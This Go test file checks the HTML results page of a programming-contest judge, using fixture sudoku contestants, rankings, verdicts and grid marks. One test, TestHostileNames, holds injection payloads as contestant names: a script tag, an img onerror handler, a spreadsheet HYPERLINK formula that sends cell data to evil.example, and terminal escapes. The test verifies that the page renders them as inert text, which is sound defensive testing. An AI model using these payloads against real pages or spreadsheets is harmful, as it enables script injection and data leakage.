package htmlreport

import (
	"bytes"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"bullseye/internal/answer"
	"bullseye/internal/classic"
	"bullseye/internal/contest"
	"bullseye/internal/grid"
	"bullseye/internal/htmlreport/pagetest"
	"bullseye/internal/outcome"
	"bullseye/internal/report"
	"bullseye/internal/warnings"
)

// fixture returns a page of a small class: an accepted contestant, one whose grid breaks a
// rule and scores less, one who timed out, one whose program did not compile and one without a
// file, over a target test with a completion and one without.
func fixture(t testing.TB) *Page {
	t.Helper()
	puzzle, err := grid.ReadFile("testdata/puzzle.in")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile("testdata/optimal.ans")
	if err != nil {
		t.Fatal(err)
	}
	best, err := answer.ReadTarget(bytes.NewReader(data))
	if err != nil || !best.HasGrid {
		t.Fatalf("testdata/optimal.ans: %v", err)
	}
	// A wrong grid: a completion the classic solver finds, which scores less than the best,
	// with its first cell, blank in the puzzle, changed so that it breaks the rules.
	solved, ok := classic.Solve(classic.Puzzle(puzzle))
	if !ok {
		t.Fatal("testdata/puzzle.in has no completion")
	}
	wrong := grid.Grid(solved)
	wrong[0] = wrong[0]%9 + 1
	var out strings.Builder
	fmt.Fprintf(&out, "%d\n", wrong.Score())
	wrong.WriteTo(&out)
	con := &contest.Contest{
		Problem: "target", TestSet: "official", Tests: []string{"official/01", "official/08"},
		Limits: contestLimits, Isolated: true,
		Contestants: []contest.Contestant{
			{Name: "alice", File: "alice/sudoku.cpp", Language: "cpp", Status: contest.Judged, Warnings: []warnings.Warning{undefined}, Results: []contest.Result{
				{Test: "official/01", Verdict: outcome.Accepted, CPUMS: 12, WallMS: 14, PeakKiB: 2048, Message: "2855, the best score", Output: "2855\n"},
				{Test: "official/08", Verdict: outcome.Accepted, CPUMS: 3, WallMS: 4, PeakKiB: 2048, Message: "-1, there is no solution", Output: "-1\n"},
			}},
			{Name: "bob", File: "bob/sudoku/sudoku.c", Language: "c", Status: contest.Judged, Warnings: []warnings.Warning{undefined, unused}, Results: []contest.Result{
				{Test: "official/01", Verdict: outcome.WrongAnswer, CPUMS: 30, WallMS: 31, PeakKiB: 1024, Message: "expected 2855, found " + fmt.Sprint(wrong.Score()),
					Output: out.String(), FirstDifference: &contest.Difference{Line: 1, Expected: []string{"2855"}, Found: []string{fmt.Sprint(wrong.Score())}}},
				{Test: "official/08", Verdict: outcome.Accepted, CPUMS: 2, WallMS: 3, PeakKiB: 1024, Message: "-1, there is no solution", Output: "-1\n"},
			}},
			{Name: "carol", File: "carol/sudoku.py", Language: "python", Status: contest.Judged, Results: []contest.Result{
				{Test: "official/01", Verdict: outcome.TimeLimit, CPUMS: 2004, WallMS: 2010, PeakKiB: 9000, Message: "CPU time over the limit of 2 s", Rerun: true},
				{Test: "official/08", Verdict: outcome.RuntimeError, CPUMS: 20, WallMS: 25, PeakKiB: 9000, Message: "exit code 1: ZeroDivisionError: division by zero"},
			}},
			{Name: "dave", File: "dave/sudoku.cpp", Language: "cpp", Status: contest.CompileError, Note: "main.cpp:3:1: error: expected ';' before '}' token"},
			{Name: "erin", Status: contest.NoSubmission},
		},
	}
	for i := range con.Contestants {
		con.Contestants[i].Summarize(len(con.Tests))
	}
	con.Rank()
	noSolution, err := grid.ReadFile("testdata/puzzle.in")
	if err != nil {
		t.Fatal(err)
	}
	noSolution[1] = noSolution[2] // two equal givens in row 1: no completion
	return &Page{Title: "Practice contest 3", Contest: con, Tests: []Test{
		{Name: "official/01", Input: &puzzle, Answer: "2855", Optimal: &best.Grid},
		{Name: "official/08", Input: &noSolution, Answer: "-1"},
	}}
}

// The compiler's warnings: one of undefined behaviour, which a page shows beside a failure, and
// one that is not.
var (
	undefined = warnings.Warning{File: "sudoku.c", Line: 7, Column: 9, Option: "-Wuninitialized", Message: "'best' is used uninitialized", Undefined: true}
	unused    = warnings.Warning{File: "sudoku.c", Line: 3, Column: 5, Option: "-Wunused-variable", Message: "unused variable 'x'"}
)

var contestLimits = report.Limits{TimeMS: 2000, WallMS: 5000, MemoryKiB: 128 << 10, OutputKiB: 16 << 10}

func render(t testing.TB, p *Page) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := p.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestPage(t *testing.T) {
	data := render(t, fixture(t))
	page, err := pagetest.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(page.External) > 0 || page.Scripts > 0 {
		t.Errorf("the page refers outside itself: %q, %d scripts", page.External, page.Scripts)
	}
	// The board: the ranking and the matrix in one table, a contestant whose every test was
	// accepted in one cell, the contestants with 0 points sharing a rank, by name.
	for _, want := range []string{"rank contestant language score AC time 01 08", "1 alice C++ 100 15 ms every test accepted · slowest official/01, 12 ms",
		"2 bob C 50 2.0 ms W A", "3 carol Python 0 – T R", "3 dave C++ 0 – compilation error", "3 erin 0 – no submission", contest.RankingRule} {
		if !strings.Contains(page.Text["ranking"], want) {
			t.Errorf("ranking %q lacks %q", page.Text["ranking"], want)
		}
	}
	tests := []struct {
		id   string
		want []string
		not  []string
	}{
		// Alice's row is all there is of her: no table of accepted tests.
		{"c0", []string{"alice", "every test accepted"}, []string{"2855, the best score", "warned"}},
		{"c1", []string{"#2 bob 50 points", "bob/sudoku/sudoku.c (c)", "accepted on 1 of 2 tests: 08", "the contestant's grid", "an optimal grid", "scores 2855", "breaks the rules",
			"row 1 has two", "other cells differ from the optimal grid", "input and an optimal grid",
			"The compiler warned of undefined behaviour, which may explain these failures: sudoku.c:7:9: warning: 'best' is used uninitialized [-Wuninitialized]"}, []string{"first difference", "unused variable"}},
		{"c2", []string{"TLE*", "2004 ms", "ZeroDivisionError", "came near a limit"}, nil},
		{"c3", []string{"compilation error", "expected ';' before"}, nil},
		{"c4", []string{"no submission"}, nil},
		{"contestants", []string{"1 of 5 contestants passed every test"}, nil},
		// Every contestant who lost points, a line each, on the first screen.
		{"failures", []string{"4 of 5 contestants lost points", "#2 bob 50 WA WA on 1 of 2 tests (first official/01); the compiler warned: sudoku.c:7: 'best' is used uninitialized [-Wuninitialized]; expected 2855",
			"#3 carol 0 TLE TLE on 1 of 2 tests (first official/01): CPU time over the limit of 2 s", "#3 dave 0 CE compilation error: main.cpp:3:1: error: expected ';' before '}' token", "#3 erin 0 – no submission"}, []string{"alice"}},
		{"tests", []string{"official/01 best score 2855", "input 30 givens, best score 2855", "official/08 no solution (-1)", "rings by weight"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.id, func(t *testing.T) {
			got, ok := page.Text[tc.id]
			if !ok {
				t.Fatalf("no element %s", tc.id)
			}
			for _, w := range tc.want {
				if !strings.Contains(got, w) {
					t.Errorf("got %q, want it to hold %q", got, w)
				}
			}
			for _, w := range tc.not {
				if strings.Contains(got, w) {
					t.Errorf("got %q, want it without %q", got, w)
				}
			}
		})
	}
}

// TestPageGrowsWithFailures renders classes whose contestants all pass, and classes with
// failures: a contestant who passes costs one row, whatever the number of tests, and the page
// grows with what went wrong.
func TestPageGrowsWithFailures(t *testing.T) {
	size := func(students, tests int, perfect bool) int {
		p := classPage(t, students, tests, false)
		if perfect {
			for i := range p.Contest.Contestants {
				x := &p.Contest.Contestants[i]
				x.Status, x.Note = contest.Judged, ""
				x.Results = nil
				for _, test := range p.Contest.Tests {
					x.Results = append(x.Results, contest.Result{Test: test, Verdict: outcome.Accepted, CPUMS: 3, Message: "2855, the best score", Output: "2855\n"})
				}
				x.Summarize(len(p.Contest.Tests))
			}
			p.Contest.Rank()
		}
		return len(render(t, p))
	}
	perRow := (size(40, 20, true) - size(10, 20, true)) / 30
	t.Logf("a passing contestant: %d bytes; a class of 40 with failures: %d bytes, all passing: %d", perRow, size(40, 20, false), size(40, 20, true))
	if perRow > 600 {
		t.Errorf("a contestant who passes every test costs %d bytes, want at most 600: one row", perRow)
	}
	if wider := (size(40, 50, true) - size(10, 50, true)) / 30; wider > perRow+100 {
		t.Errorf("a contestant who passes every one of 50 tests costs %d bytes, %d for 20: want one row either way", wider, perRow)
	}
	if perfect, failing := size(40, 20, true), size(40, 20, false); failing < perfect+10000 {
		t.Errorf("a class with failures: %d bytes, all passing: %d; want the failures' details to show", failing, perfect)
	}
}

// TestFoundGridMarks checks the marks of a contestant's grid: the cells that break a rule, and
// those that only differ from the optimal grid.
func TestFoundGridMarks(t *testing.T) {
	p := fixture(t)
	puzzle, best := *p.Tests[0].Input, *p.Tests[0].Optimal
	blank := best
	blank[3] = 0 // r1c4, blank in the puzzle
	changed := best
	changed[1] = 9 // r1c2, a given 1
	swapped := best
	swapped[0], swapped[6] = swapped[6], swapped[0] // r1c1 and r1c7: columns and boxes broken
	solved, _ := classic.Solve(classic.Puzzle(puzzle))
	tests := []struct {
		name            string
		g               grid.Grid
		broken, differs []int
		problem         string
	}{
		{"optimal", best, nil, nil, "0 other cells differ"},
		{"a blank", blank, []int{3}, nil, "1 blank or changed cells"},
		{"a changed given", changed, []int{1, 3, 19}, nil, "1 blank or changed cells; row 1 has two 9s"},
		{"two cells swapped", swapped, []int{0, 6, 20, 24, 45}, nil, "column 1 has two 5s"},
		{"another completion", grid.Grid(solved), nil, differing(grid.Grid(solved), best), "cells differ from the optimal grid"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v, problem := foundGrid(puzzle, answer.Target{Grid: tc.g, HasGrid: true}, &best)
			marked := map[string][]int{}
			for cell := range grid.Cells {
				for _, class := range strings.Fields(v.Rows[grid.RowOf(cell)][grid.ColOf(cell)].Class) {
					marked[class] = append(marked[class], cell)
				}
			}
			if fmt.Sprint(marked["broken"]) != fmt.Sprint(sorted(tc.broken)) || fmt.Sprint(marked["differs"]) != fmt.Sprint(tc.differs) {
				t.Errorf("broken %v, differs %v; want %v and %v", marked["broken"], marked["differs"], sorted(tc.broken), tc.differs)
			}
			if !strings.Contains(problem, tc.problem) {
				t.Errorf("problem %q, want it to hold %q", problem, tc.problem)
			}
		})
	}
}

func differing(a, b grid.Grid) []int {
	var cells []int
	for cell := range a {
		if a[cell] != b[cell] {
			cells = append(cells, cell)
		}
	}
	return cells
}

func sorted(cells []int) []int {
	out := append([]int(nil), cells...)
	slices.Sort(out)
	return out
}

// TestHostileNames renders contestants whose names and notes are markup, a script, a formula
// and terminal escapes: the page shows them as text, runs nothing and refers outside itself
// to nothing.
func TestHostileNames(t *testing.T) {
	p := fixture(t)
	hostile := []string{
		`<script>alert("names are data")</script>`,
		`<img src="http://evil.example/x.png" onerror="alert(1)">`,
		`=HYPERLINK("http://evil.example/?"&A1,"prize")`,
		"eve\n\x1b[1A\x1b[2K",
	}
	for i, name := range hostile {
		p.Contest.Contestants[i].Name = name
	}
	p.Contest.Contestants[3].Note = `</pre><a href="http://evil.example/">a link</a>`
	page, err := pagetest.Parse(render(t, p))
	if err != nil {
		t.Fatal(err)
	}
	if len(page.External) > 0 || page.Scripts > 0 {
		t.Errorf("the page refers outside itself or runs a script: %q, %d scripts", page.External, page.Scripts)
	}
	for _, name := range hostile[:3] {
		if !strings.Contains(page.Text["ranking"], name) {
			t.Errorf("the ranking does not show %q as text", name)
		}
	}
	if !strings.Contains(page.All, `</pre><a href="http://evil.example/">a link</a>`) {
		t.Error("the compiler's message is not shown as text")
	}
}

// TestFailuresAlike checks that failures alike take one line: a contestant with one verdict on
// every test gets one cell on the board, and one row of details for the tests that failed with
// the same message and nothing else to show, the board's cells leading to it.
func TestFailuresAlike(t *testing.T) {
	p := classPage(t, 20, 20, false)
	data := render(t, p)
	page, err := pagetest.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if want := "0 – run-time error on every test"; !strings.Contains(page.Text["ranking"], want) {
		t.Errorf("ranking %q lacks %q", page.Text["ranking"], want)
	}
	i := slices.IndexFunc(p.Contest.Contestants, func(x contest.Contestant) bool { return x.Name == "erin" })
	erin := page.Text[fmt.Sprintf("c%d", i)]
	for _, want := range []string{"official/01–20 (20 tests) RE", "SIGSEGV"} {
		if !strings.Contains(erin, want) {
			t.Errorf("erin's details %q lack %q", erin, want)
		}
	}
	if n := strings.Count(erin, "SIGSEGV"); n != 1 {
		t.Errorf("erin's details show the message %d times, want once", n)
	}
	// Victor fails four tests alike but for their numbers ("expected 2855, found 2849" on
	// official/12, "found 2853" on the last three): each of their cells leads to their one row,
	// which says that the others' numbers differ.
	v := slices.IndexFunc(p.Contest.Contestants, func(x contest.Contestant) bool { return x.Name == "victor" })
	for _, k := range []int{11, 17, 18, 19} {
		if bytes.Contains(data, []byte(fmt.Sprintf(`id="r%d-%d"`, v, k))) != (k == 11) {
			t.Errorf("row r%d-%d: want only the first of the four", v, k)
		}
	}
	if n := bytes.Count(data, []byte(fmt.Sprintf(`href="#r%d-11"`, v))); n != 4 {
		t.Errorf("%d cells lead to victor's row of four failures, want 4", n)
	}
	victor := page.Text[fmt.Sprintf("c%d", v)]
	if want := "official/12 18–20 (4 tests) WA"; !strings.Contains(victor, want) {
		t.Errorf("victor's details %q lack %q", victor, want)
	}
	if want := "official/12: expected 2855, found 2849 (the others alike, with their own numbers)"; !strings.Contains(victor, want) {
		t.Errorf("victor's details %q lack %q", victor, want)
	}
}
